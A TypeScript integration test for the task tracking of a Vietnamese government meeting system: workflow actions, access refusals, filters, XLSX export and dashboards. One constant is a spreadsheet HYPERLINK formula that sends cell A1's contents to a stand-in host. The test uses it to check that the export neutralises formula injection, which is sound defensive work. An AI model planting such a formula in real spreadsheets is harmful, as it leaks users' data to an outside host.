import ExcelJS from 'exceljs';
import { getDataSourceToken } from '@nestjs/typeorm';
import type { DataSource } from 'typeorm';
import type { ApiError, AssignedTask, Organization, Page, TaskDashboard, TaskDetail } from '@app/contracts';
import { localDateOf } from '@app/contracts';
import { startTestApp, type TestApp } from '../support/app';
import { newAccount, newOrganization, newPublishedMeeting, orgByCode } from '../support/factories';
import { UserSession } from '../support/session';
import { day } from '../support/time';

const inDays = (n: number) => localDateOf(new Date(Date.now() + n * 86_400_000));
const HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")';

/** Issue 20: tasks of published minutes followed up by the agencies and the assigning side. */
describe('task follow-up', () => {
  let app: TestApp;
  let db: DataSource;
  let secretary: UserSession; // the assigning side (the meeting's secretary)
  let lead: UserSession; // an official of Bộ Ngoại giao, the lead agency
  let coop: UserSession; // Lạng Sơn's operator, a co-operating agency
  let stranger: UserSession; // an agency with nothing to do with the task
  let admin: UserSession;
  let vpcp: Organization;
  let bng: Organization;
  let bca: Organization;
  let langSon: Organization;
  let meetingId: string;
  let task: AssignedTask;

  const history = async (id: string) => (await secretary.get<TaskDetail>(`/api/tasks/${id}`)).body.history;
  const act = (who: UserSession, body: Record<string, unknown>, id = task.id) => who.post<TaskDetail & ApiError>(`/api/tasks/${id}/actions`, body);

  beforeAll(async () => {
    app = await startTestApp();
    db = app.app.get<DataSource>(getDataSourceToken());
    admin = await UserSession.signIn(app.baseUrl, 'admin');
    const chair = await UserSession.signIn(app.baseUrl, 'chair');
    vpcp = await orgByCode(admin, 'VPCP');
    // the Government Office assigns: its secretary is the assigning side, apart from every agency that works on the task
    secretary = await (await newAccount(admin, 'secretary', vpcp.id, { fullName: 'Trần Thị Thư' })).session();
    bng = await orgByCode(admin, 'BNG');
    bca = await orgByCode(admin, 'BCA');
    langSon = await orgByCode(admin, 'LANG_SON');
    lead = await (await newAccount(admin, 'viewer', bng.id, { fullName: 'Phạm Thu Hằng' })).session();
    coop = await UserSession.signIn(app.baseUrl, 'langson');
    stranger = await (await newAccount(admin, 'viewer', (await newOrganization(admin, { name: 'Sở Thử nghiệm Đắk Lắk' })).id, { fullName: 'Đinh Văn Lạ' })).session();
    meetingId = await newPublishedMeeting(
      { organizer: admin, chair, secretary },
      {
        title: 'Hội nghị tổng kết 10 năm thực hiện Nghị quyết 22',
        hostOrganizationId: vpcp.id,
        start: day(1, '08:00'),
        end: day(1, '11:00'),
        tasks: [
          { text: 'Giao Bộ Ngoại giao chủ trì, phối hợp với các bộ, ngành, địa phương xây dựng báo cáo trình Chính phủ', leadOrganizationId: bng.id, coOrganizationIds: [bca.id, langSon.id], deadline: inDays(30) },
          { text: `${HYPERLINK} rà soát`, leadOrganizationId: bca.id, deadline: inDays(3) },
          { text: 'Giao Ủy ban nhân dân tỉnh Lạng Sơn tổng hợp ý kiến', leadOrganizationId: langSon.id, deadline: inDays(60) },
        ],
      },
    );
    task = (await secretary.get<Page<AssignedTask>>(`/api/tasks?meetingId=${meetingId}&leadOrganizationId=${bng.id}`)).body.items[0];
  });
  afterAll(async () => {
    await app.close();
  });

  it('reaches the agencies as assigned, with the assigning body and the first history row', async () => {
    expect(task).toMatchObject({ status: 'assigned', assigningOrganizationName: vpcp.name, leadOrganizationName: 'Bộ Ngoại giao', overdue: false, deadlineVersion: 0 });
    const detail = (await lead.get<TaskDetail>(`/api/tasks/${task.id}`)).body;
    expect(detail.actions).toEqual(['report_progress', 'report_done', 'request_extension']);
    expect(detail.history.map((h) => [h.action, h.toStatus])).toEqual([['assigned', 'assigned']]);
    expect((await coop.get<TaskDetail>(`/api/tasks/${task.id}`)).body.actions).toEqual(['contribute']);
    expect((await secretary.get<TaskDetail>(`/api/tasks/${task.id}`)).body.actions).toEqual(['withdraw']);
    expect((await stranger.get<ApiError>(`/api/tasks/${task.id}`)).body.code).toBe('task_not_found');
  });

  it('refuses a report by an agency neither lead nor co-operating, and the wrong side’s actions: nothing changes', async () => {
    const before = (await secretary.get<TaskDetail>(`/api/tasks/${task.id}`)).body;
    const notTheirs = await act(stranger, { action: 'report_progress', text: 'Báo cáo giả' });
    expect([notTheirs.status, notTheirs.body.code]).toEqual([404, 'task_not_found']); // not revealed to a stranger
    for (const [who, body] of [
      [coop, { action: 'report_progress', text: 'Lạng Sơn báo cáo thay' }],
      [lead, { action: 'accept' }],
      [secretary, { action: 'report_done' }],
      [coop, { action: 'request_extension', deadline: inDays(90), text: 'xin gia hạn' }],
    ] as const) {
      const res = await act(who, body);
      expect([res.status, res.body.code, res.body.params]).toEqual([403, 'task_not_participant', { taskId: task.id }]);
    }
    expect((await secretary.get<TaskDetail>(`/api/tasks/${task.id}`)).body).toEqual(before);
  });

  it('refuses an extension into the past (or not after the deadline) with its field, and bad input: nothing changes', async () => {
    const before = (await secretary.get<TaskDetail>(`/api/tasks/${task.id}`)).body;
    for (const deadline of [inDays(-1), localDateOf(new Date()), task.deadline!]) {
      const res = await act(lead, { action: 'request_extension', deadline, text: 'Xin lùi thời hạn' });
      expect([res.status, res.body.code, res.body.params, res.body.fields?.[0]?.field]).toEqual([422, 'deadline_in_the_past', { deadline }, 'deadline']);
    }
    for (const body of [{ action: 'request_extension', deadline: '2027-02-30', text: 'x' }, { action: 'request_extension', deadline: inDays(40) }, { action: 'report_progress', text: '   ' }, { action: 'fly' }]) {
      const res = await act(lead, body);
      expect([res.status, res.body.code]).toEqual([400, 'validation_failed']);
    }
    const illegal = await act(secretary, { action: 'accept' });
    expect([illegal.status, illegal.body.code, illegal.body.params]).toEqual([409, 'task_illegal_action', { status: 'assigned', action: 'accept' }]);
    expect((await secretary.get<TaskDetail>(`/api/tasks/${task.id}`)).body).toEqual(before);
  });

  it('runs progress, a contribution, an extension asked and granted, a report of completion, a return and an acceptance, each kept with who and when', async () => {
    expect((await act(lead, { action: 'report_progress', text: 'Đã hoàn thành dự thảo đề cương báo cáo' })).body.task.status).toBe('in_progress');
    expect((await act(coop, { action: 'contribute', text: 'Lạng Sơn gửi số liệu hợp tác biên giới' })).body.task.status).toBe('in_progress');
    const asked = await act(lead, { action: 'request_extension', deadline: inDays(45), text: 'Chờ số liệu của các địa phương' });
    expect(asked.body.task).toMatchObject({ extensionRequested: inDays(45), deadline: inDays(30) });
    expect((await act(lead, { action: 'request_extension', deadline: inDays(50), text: 'lần nữa' })).body.code).toBe('task_extension_pending');
    const granted = await act(secretary, { action: 'grant_extension', text: 'Đồng ý gia hạn' });
    expect(granted.body.task).toMatchObject({ status: 'extended', deadline: inDays(45), extensionRequested: null, deadlineVersion: 1 });
    expect((await act(secretary, { action: 'refuse_extension' })).body.code).toBe('task_no_extension_pending');
    await act(lead, { action: 'report_done', text: 'Đã trình Chính phủ báo cáo' });
    expect((await act(secretary, { action: 'return', text: 'Bổ sung phụ lục số liệu' })).body.task.status).toBe('in_progress');
    await act(lead, { action: 'report_done', text: 'Đã bổ sung phụ lục' });
    const accepted = await act(secretary, { action: 'accept', text: 'Nghiệm thu' });
    expect(accepted.body.task.status).toBe('accepted');
    expect(accepted.body.actions).toEqual([]);
    const h = await history(task.id);
    expect(h.map((x) => [x.action, x.fromStatus, x.toStatus, x.actorName, x.organizationName])).toEqual([
      ['assigned', null, 'assigned', null, null],
      ['report_progress', 'assigned', 'in_progress', 'Phạm Thu Hằng', 'Bộ Ngoại giao'],
      ['contribute', 'in_progress', 'in_progress', expect.any(String), 'Ủy ban nhân dân tỉnh Lạng Sơn'],
      ['request_extension', 'in_progress', 'in_progress', 'Phạm Thu Hằng', 'Bộ Ngoại giao'],
      ['grant_extension', 'in_progress', 'extended', 'Trần Thị Thư', vpcp.name],
      ['report_done', 'extended', 'reported_done', 'Phạm Thu Hằng', 'Bộ Ngoại giao'],
      ['return', 'reported_done', 'in_progress', expect.any(String), expect.any(String)],
      ['report_done', 'in_progress', 'reported_done', 'Phạm Thu Hằng', 'Bộ Ngoại giao'],
      ['accept', 'reported_done', 'accepted', expect.any(String), expect.any(String)],
    ]);
    expect(h[3]).toMatchObject({ text: 'Chờ số liệu của các địa phương', deadlineBefore: inDays(30), deadlineAfter: inDays(45) });
    expect(h[4]).toMatchObject({ deadlineBefore: inDays(30), deadlineAfter: inDays(45) });
    expect(h.every((x) => !Number.isNaN(Date.parse(x.at)))).toBe(true);
  });

  it('filters the register by meeting, assigning body, lead, co-operating, status, overdue and due this week', async () => {
    const bcaTask = (await secretary.get<Page<AssignedTask>>(`/api/tasks?leadOrganizationId=${bca.id}`)).body.items[0];
    // the Bộ Công an task fell behind: its deadline is moved to last week (as if the days had passed)
    await db.query(`UPDATE assigned_tasks SET deadline = $2 WHERE id = $1`, [bcaTask.id, inDays(-8)]);
    const ids = async (qs: string, who = secretary) => (await who.get<Page<AssignedTask>>(`/api/tasks?${qs}`)).body.items.map((t) => t.leadOrganizationName).sort();
    expect(await ids(`meetingId=${meetingId}`)).toEqual(['Bộ Công an', 'Bộ Ngoại giao', 'Ủy ban nhân dân tỉnh Lạng Sơn']);
    expect(await ids(`assigningOrganizationId=${vpcp.id}`)).toEqual(['Bộ Công an', 'Bộ Ngoại giao', 'Ủy ban nhân dân tỉnh Lạng Sơn']);
    expect(await ids(`assigningOrganizationId=${bca.id}`)).toEqual([]);
    expect(await ids(`coOrganizationId=${langSon.id}`)).toEqual(['Bộ Ngoại giao']);
    expect(await ids(`status=accepted`)).toEqual(['Bộ Ngoại giao']);
    expect(await ids(`overdue=true`)).toEqual(['Bộ Công an']);
    expect((await secretary.get<Page<AssignedTask>>(`/api/tasks?overdue=true`)).body.items[0].overdue).toBe(true);
    expect(await ids(`overdue=false&meetingId=${meetingId}`)).toEqual(['Bộ Ngoại giao', 'Ủy ban nhân dân tỉnh Lạng Sơn']);
    // due this week: a task whose deadline is today is due this week, whatever the weekday
    const lsTask = (await secretary.get<Page<AssignedTask>>(`/api/tasks?leadOrganizationId=${langSon.id}`)).body.items[0];
    await db.query(`UPDATE assigned_tasks SET deadline = $2 WHERE id = $1`, [lsTask.id, localDateOf(new Date())]);
    expect(await ids(`dueThisWeek=true`)).toEqual(['Ủy ban nhân dân tỉnh Lạng Sơn']);
    // an agency's own register; another agency's is refused with a code
    expect(await ids(`coOrganizationId=${langSon.id}`, coop)).toEqual(['Bộ Ngoại giao']);
    const foreign = await stranger.get<ApiError>(`/api/tasks?leadOrganizationId=${bca.id}`);
    expect([foreign.status, foreign.body.code]).toEqual([403, 'forbidden']);
    const bad = await secretary.get<ApiError>(`/api/tasks?overdue=maybe`);
    expect([bad.status, bad.body.code]).toEqual([400, 'validation_failed']);
  });

  it('exports the filtered register as XLSX with every text cell inert and the Vietnamese intact', async () => {
    const res = await fetch(`${app.baseUrl}/api/tasks/export.xlsx?meetingId=${meetingId}`, { headers: { authorization: `Bearer ${secretary.token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain(encodeURIComponent('Theo dõi nhiệm vụ'));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const ws = wb.getWorksheet('Theo dõi nhiệm vụ')!;
    const rows = ws.getSheetValues().filter(Boolean).map((r) => (r as unknown[]).slice(1));
    expect(rows[0]).toEqual(['STT', 'Nội dung nhiệm vụ', 'Cuộc họp', 'Cơ quan giao', 'Cơ quan chủ trì', 'Cơ quan phối hợp', 'Thời hạn', 'Tình trạng', 'Quá hạn']);
    expect(rows).toHaveLength(4);
    const bcaRow = rows.find((r) => r[4] === 'Bộ Công an')!;
    expect(bcaRow[1]).toBe(`'${HYPERLINK} rà soát`);
    expect(bcaRow[8]).toBe('Quá hạn');
    const bngRow = rows.find((r) => r[4] === 'Bộ Ngoại giao')!;
    expect(bngRow.slice(2, 8)).toEqual(['Hội nghị tổng kết 10 năm thực hiện Nghị quyết 22', 'Văn phòng Chính phủ', 'Bộ Ngoại giao', 'Bộ Công an; Ủy ban nhân dân tỉnh Lạng Sơn', expect.stringMatching(/^\d\d\/\d\d\/\d{4}$/), 'Đã nghiệm thu']);
    // no cell anywhere is a formula
    ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('counts per agency and across agencies on the dashboards', async () => {
    const all = (await admin.get<TaskDashboard>('/api/tasks/dashboard')).body;
    expect(all.rows.map((r) => [r.organizationName, r.total, r.open, r.overdue, r.doneOnTime, r.doneLate])).toEqual([
      ['Bộ Công an', 1, 1, 1, 0, 0],
      ['Bộ Ngoại giao', 1, 0, 0, 1, 0],
      ['Ủy ban nhân dân tỉnh Lạng Sơn', 1, 1, 0, 0, 0],
    ]);
    expect(all.totals).toEqual({ total: 3, open: 2, overdue: 1, reportedDone: 0, doneOnTime: 1, doneLate: 0 });
    // an agency sees its own: Lạng Sơn leads one task and co-operates on Bộ Ngoại giao's
    const mine = (await coop.get<TaskDashboard>('/api/tasks/dashboard')).body;
    expect(mine.rows.map((r) => r.organizationName)).toEqual(['Bộ Ngoại giao', 'Ủy ban nhân dân tỉnh Lạng Sơn']);
    expect((await stranger.get<TaskDashboard>('/api/tasks/dashboard')).body).toEqual({ rows: [], totals: { total: 0, open: 0, overdue: 0, reportedDone: 0, doneOnTime: 0, doneLate: 0 } });
  });
});
